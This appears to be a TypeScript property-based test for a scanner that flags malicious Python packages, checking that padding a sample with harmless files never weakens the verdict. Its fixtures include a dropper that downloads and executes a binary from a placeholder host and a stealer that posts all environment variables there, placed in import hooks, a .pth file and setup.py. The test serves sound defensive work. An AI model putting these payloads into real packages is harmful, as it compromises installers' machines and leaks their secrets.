import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { packageFiles, pythonParser } from '../../../test/builders/python-package.ts';
import { analyse } from './analyse.ts';
import type { PackageKind } from './package-layout.ts';

/** What a package with malicious code may be padded with: ordinary files, some of which do things by themselves. */
const HONEST: Readonly<Record<string, string>> = {
  'README.md': '# demo\n\nInstall it with pip.\n',
  'LICENSE.txt': 'MIT\n',
  'setup.cfg': '[metadata]\nname = demo\n',
  'demo/__init__.py': '"""A demo."""\n\nfrom .version import __version__\n',
  'demo/version.py': "__version__ = '1.0'\n",
  'demo/client.py':
    'import requests\n\n\nclass Client:\n    def __init__(self, base):\n        self.base = base\n\n    def get(self, path):\n        return requests.get(self.base + path)\n',
  'demo/settings.py': "import os\n\nDEBUG = os.environ.get('DEMO_DEBUG') == '1'\n",
  'demo/tables.py': `TABLE = [${'1234, '.repeat(2000)}]\n`,
  'demo/sub/__init__.py': '',
  'demo/sub/build.py':
    "import subprocess\n\n\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n",
  'other/__init__.py': 'def add(a, b):\n    return a + b\n',
  'tests/__init__.py': '',
  'tests/test_demo.py': "import demo\n\n\ndef test_version():\n    assert demo.__version__ == '1.0'\n",
  'docs/conf.py': "project = 'demo'\n",
  'examples/run.py': 'import demo\n\nprint(demo.__version__)\n',
  'scripts/build.sh': '#!/bin/sh\nset -e\npython -m build\n',
};

const DROPPER =
  "import os, urllib.request\nurllib.request.urlretrieve('https://collector.example.invalid/a.exe', '/tmp/a.exe')\nos.system('/tmp/a.exe')\n";
const STEALER =
  "import json, os, urllib.request\n\n\ndef send():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://collector.example.invalid/x', data)\n";

/** Where the malicious code stands. */
const MALICIOUS: Readonly<Record<string, readonly [PackageKind, Readonly<Record<string, string>>]>> = {
  'at import of the package': ['wheel', { 'evil/__init__.py': DROPPER }],
  'in a module beside the package': ['wheel', { 'evil.py': DROPPER }],
  'in a file that only calls it': [
    'wheel',
    { 'evil/util.py': STEALER, 'evil/__init__.py': 'from .util import send\n\nsend()\n' },
  ],
  'in a function that is only called': ['wheel', { 'evil/util.py': STEALER }],
  'at every start of Python': ['wheel', { 'evil.pth': `import os; exec(${JSON.stringify(DROPPER)})\n` }],
  'in setup.py': ['sdist', { 'setup.py': `from setuptools import setup\n${DROPPER}setup(name='demo')\n` }],
  'below tests of a wheel': ['wheel', { 'tests/evil.py': DROPPER }],
  'in an sdist below src': [
    'sdist',
    { 'src/evil/__init__.py': DROPPER, 'setup.py': 'from setuptools import setup\nsetup()\n' },
  ],
};

const RANK = { none: 0, note: 1, hold: 2, block: 3 } as const;
const parser = await pythonParser();
const judge = (kind: PackageKind, sources: Readonly<Record<string, string>>) =>
  analyse(parser, packageFiles(sources), { kind });

for (const [where, [kind, evil]] of Object.entries(MALICIOUS)) {
  test(`honest files weaken no verdict on code ${where}`, () => {
    const alone = judge(kind, evil);
    assert.ok(alone.score > 0, 'the sample shows something');
    fc.assert(
      fc.property(fc.subarray(Object.keys(HONEST)), fc.boolean(), (chosen, first) => {
        const honest = Object.fromEntries(
          chosen.filter((path) => !(path in evil)).map((path) => [path, HONEST[path]!]),
        );
        const padded = judge(kind, first ? { ...honest, ...evil } : { ...evil, ...honest });
        assert.ok(padded.score >= alone.score, `${padded.score} < ${alone.score} beside ${chosen.join(', ')}`);
        assert.ok(RANK[padded.verdict] >= RANK[alone.verdict]);
      }),
      { numRuns: 40 },
    );
  });
}
